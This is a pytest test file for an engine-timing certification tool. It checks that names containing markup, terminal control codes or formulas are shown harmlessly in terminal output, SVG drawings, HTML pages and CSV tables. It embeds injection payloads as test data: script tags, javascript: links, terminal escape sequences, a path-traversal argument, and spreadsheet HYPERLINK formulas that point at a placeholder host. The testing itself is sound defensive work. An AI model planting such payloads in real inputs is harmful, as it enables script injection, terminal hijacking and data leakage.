"""Names that hold markup, control codes or HTML: harmless on screen, in tables and on the page."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from made_job import MadeJob, Ran, certificate_in, copied, rig

from rig.certificate import seal
from rig.live import plain_lines
from rig.live.layout import render
from rig.live.ui_state import UiState
from rig.wire.line import encode

SVG = "{http://www.w3.org/2000/svg}"
UPPER = "[b]up[/b]<img src=x>{0}%s"
LOWER = "lo&wer'\\\"</td><b>"
ENGINE = "<script>alert(1)</script> [red]{engine}[/]"
BAD = "\x1b[2J\x1b]0;title\x07\x9b31m\u202edesrever\r\n\x00<script>boo()</script>"


def hostile(text: str) -> str:
    for old, new in (
        ("upper", UPPER), ("lower", LOWER), ("Launch engine (example)", ENGINE),
    ):  # fmt: skip
        text = text.replace(f'"{old}"', json.dumps(new))
    text = text.replace('person = ""', f"person = {json.dumps('<a href=javascript:x>me</a>')}")
    text = text.replace('serial = ""', f"serial = {json.dumps('<!-- 1 -->')}", 1)
    text += f"[[adjustment.slot]]\nunit = {json.dumps(UPPER)}\nradius_mm = 40\n"
    text += "clockwise_mm = 9\nanticlockwise_mm = 9\n"
    text += f'[[adjustment.mesh]]\ndriver = "crank"\ndriven = {json.dumps(UPPER)}\n'
    text += "driver_teeth = 24\ndriven_teeth = 24\n"
    return text.replace("workshop manual, page 12", "<style>*{display:none}</style> page 12")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> MadeJob:
    """A job full of such names, certified; the rig tries to give a name of its own as well."""
    made = MadeJob(tmp_path_factory.mktemp("hostile") / "job", edit=hostile)
    made.hear(encode("I", 0, "1", "1000", "2", "<b>\x1b[2J</b>"))
    made.hear(b"\x1b[2J\x1b]0;you are mine\x07\n# end {} 00000000 00000000\n")
    made.find_tdc().state_stroke().do("turn 800 at 110")
    made.live.annotate("remark", {"text": BAD})
    last = next(o for o in made.live.session.openings if o.valid)
    made.live.annotate("strike", {"t_us": last.t_us, "why": BAD})
    made.live.annotate("weather", {"x": BAD})
    for unit in (UPPER, LOWER):
        made.live.annotate("setting", {"unit": unit, "setting": "full retard"})
    made.do("lever full retard", "turn 800 at 110")
    made.end()
    rig("certify", made.folder)
    return made


def harmless(text: str) -> bool:
    """Nothing that could steer a terminal, reverse writing or hide."""
    return all(
        c in "\n" or (c.isprintable() and unicodedata.category(c)[0] != "C") for c in text
    )  # fmt: skip


def calls(made: MadeJob) -> list[tuple[str | Path, ...]]:
    folder = sorted((made.folder / "certificates").iterdir())[0]
    return [
        ("results", made.folder, "--readings"),
        ("tdc", "show", made.folder),
        ("certify", made.folder),
        ("verify", folder, "--all-checks"),
        ("compare", folder, folder),
        ("read", made.capture, "--job", made.folder),
        ("check", made.folder),
        ("range", made.folder),
        ("gears", made.folder),
        ("bench", made.folder, "--unit", UPPER, "--serial", BAD, "--type", "=../../x"),
        ("adjust", made.folder),
        ("trend", made.folder),
    ]


def test_every_command_shows_them_as_they_are_written(made: MadeJob) -> None:
    for words in calls(made):
        ran = rig(*words)
        assert ran.status in (0, 1), ran.err
        assert harmless(ran.out), words
        assert harmless(ran.err), words
    figures = rig("results", made.folder, "--readings")
    assert UPPER in figures.out  # as it stands: neither obeyed nor taken away
    assert LOWER in figures.out


@pytest.mark.slow
def test_drawings_hold_them_as_text(made: MadeJob, tmp_path: Path) -> None:
    """Only what a drawing is made of, and names as text; nothing that acts or loads."""
    plain_lines = MadeJob(tmp_path / "plain").find_tdc().state_stroke().do("turn 800 at 110").end()
    for kind in ("readings", "turn", "drift", "signal"):
        seen = []
        for job in (plain_lines, made):
            if kind == "drift":
                rig("certify", job.folder)
            out = tmp_path / f"{kind}.svg"
            ran = rig("plot", kind, job.capture if kind == "signal" else job.folder, "--out", out)
            assert ran.status == 0, ran.err
            seen.append(ElementTree.fromstring(out.read_text("utf-8")))
        tags = [{each.tag for each in tree.iter()} for tree in seen]
        assert tags[1] <= tags[0] | {SVG + "text", SVG + "tspan"}, kind
        assert not tags[1] & {SVG + "script", SVG + "image", SVG + "a", SVG + "foreignObject"}
        links = [v for each in seen[1].iter() for k, v in each.items() if k.endswith("href")]
        assert all(link.startswith("#") for link in links)
        assert not any(k.startswith("on") for each in seen[1].iter() for k in each.attrib)


@pytest.mark.parametrize("signs", ["=+-@", "＝＋－＠"])
def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, signs: str) -> None:
    """A spreadsheet takes for a formula what begins so (common practice, no source); fields are
    read back as RFC 4180 says."""
    names = [f'{sign}HYPERLINK("http://x/?"&A1)' for sign in signs]

    def evil(text: str) -> str:
        for old, new in zip(("upper", "lower", "full advance", "full retard"), names, strict=True):
            text = text.replace(f'"{old}"', json.dumps(new))
        return text

    made = MadeJob(tmp_path / "job", edit=evil).find_tdc().state_stroke()
    made.do("turn 800 at 110").end()
    rig("certify", made.folder)
    ran = rig("trend", made.folder, "--cylinders", "--csv", tmp_path / "all.csv")
    assert ran.status == 0, ran.err
    with (tmp_path / "all.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    cells = [cell for row in rows for cell in row.values()]
    assert {row["unit"] for row in rows} == {f"'{name}" for name in names[:2]}
    texts = [cell for cell in cells if not re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", cell)]
    assert not [text for text in texts if text.lstrip().startswith(tuple("=+-@＝＋－＠"))]


def test_a_name_cannot_begin_a_line_of_its_own(tmp_path: Path) -> None:
    """A record edited and sealed anew, whose unit is called by a sentence of ours."""
    folder = copied(tmp_path)
    file = certificate_in(folder)
    record = file.read_text("ascii").replace('"upper"', json.dumps("upper\neverything holds"))
    file.write_bytes(seal.file_bytes(json.loads(record), b""))
    for words in (("trend", folder), ("compare", file, file), ("verify", file, "--all-checks")):
        ran = rig(*words)
        lines = [*ran.out.splitlines(), *ran.err.splitlines()]
        assert lines
        assert not any(line.startswith("everything") for line in lines)
        said = ran.out + ran.err
        if words[0] == "trend":
            assert ran.status == 0
            assert "everything holds" in said
        else:  # a name of two lines is no name
            assert ran.status == {"compare": 2, "verify": 1}[str(words[0])]
            assert "stated.units[0].name: holds an unprintable character (U+000A)" in said


def test_json_carries_them_whole(made: MadeJob) -> None:
    answer = rig("results", made.folder, "--json")
    assert answer.out.isascii()
    assert {r["unit"] for r in answer.answer["readings"]} == {UPPER, LOWER}
    assert any(r["why"] == BAD for r in answer.answer["readings"])


class Tags(HTMLParser):
    """Tags and attributes that a browser would see."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        assert not any("javascript" in (value or "") for _, value in attrs)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came into the page: {data}")

    def handle_data(self, data: str) -> None:
        self.text += data


def test_the_page_shows_them_and_obeys_none(made: MadeJob) -> None:
    (folder,) = list((made.folder / "certificates").iterdir())[:1]
    page = (folder / f"{folder.name}.html").read_text("utf-8")
    seen = Tags(page)
    assert not seen.tags & {"script", "img", "a", "iframe", "object", "form"}
    assert not any(name.startswith("on") or name in ("src", "href") for name in seen.attributes)
    assert harmless(page)
    for name in (UPPER, LOWER, ENGINE, "<a href=javascript:x>me</a>"):
        assert name in seen.text
    assert "[U+001B][2J" in seen.text  # the remark, spelt out
    assert "[U+202E]" in seen.text


def test_a_rig_that_gives_itself_such_a_name_is_not_believed(made: MadeJob) -> None:
    session = made.live.session
    assert session.identity is not None
    assert session.identity.name == "virtual-rig"
    assert (
        session.line_errors["field"] + session.line_errors["garbage"] + session.line_errors["gap"]
        >= 2
    )
    assert harmless(session.last_error)
    text = made.capture.read_bytes()
    assert text.isascii()
    assert b"\x1b" not in text
    assert text.count(b"# end ") == 1


def test_the_dashboard_and_its_plain_lines_are_harmless(tmp_path: Path) -> None:
    made = MadeJob(tmp_path / "job", edit=hostile).find_tdc().do("turn 800 at 110")
    ui_state = UiState(made.live, tag=BAD)
    ui_state.say(BAD)
    view = ui_state.view()
    for unicode in (True, False):
        shown = "\n".join(render(view, 160, 50, colour=False, unicode=unicode).plain())
        assert harmless(shown)
        assert "[b]up[/b]" in shown
    out = io.StringIO()
    plain_lines.run(lambda: view, stop=lambda: True, out=out)
    assert harmless(out.getvalue())
    assert UPPER in out.getvalue()


@pytest.mark.skipif(sys.platform == "win32", reason="no such file names there")
@pytest.mark.parametrize("name", ["a\x1b[2Jb", "a\u202eb", "a\x9bb", "<b>a&", "[red]a"])
def test_folders_and_files_of_such_names(tmp_path: Path, name: str) -> None:
    def fine(ran: Ran) -> str:
        assert harmless(ran.out)
        assert harmless(ran.err)
        return ran.err

    folder = tmp_path / name
    assert "there is no such job folder" in fine(rig("results", folder))
    made = rig("new", folder, "--example")
    assert made.status == 0
    fine(made)
    assert "there is no capture yet" in fine(rig("results", folder))
    assert "is empty" in fine(rig("read", _empty(folder / f"{name}.vcd"), "--counts-per-turn", 4))
    (folder / "engine.toml").write_text("[engine]\nx = 1\n", "utf-8")
    assert "is not a known key" in fine(rig("results", folder))


def _empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path
